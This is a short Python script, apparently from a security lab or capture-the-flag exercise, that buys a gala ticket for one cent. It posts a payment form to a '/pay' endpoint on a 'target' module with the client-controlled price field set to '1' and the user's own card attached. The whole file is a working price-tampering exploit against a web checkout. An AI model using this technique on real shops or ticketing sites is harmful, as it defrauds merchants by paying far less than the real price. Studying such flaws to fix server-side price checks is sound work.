"""A gala seat for one cent."""

from target import http, my_card

form = {"show": "Gala", "seats": "1", "price": "1", "card": my_card()}
print(http.post("/pay", data=form).text)
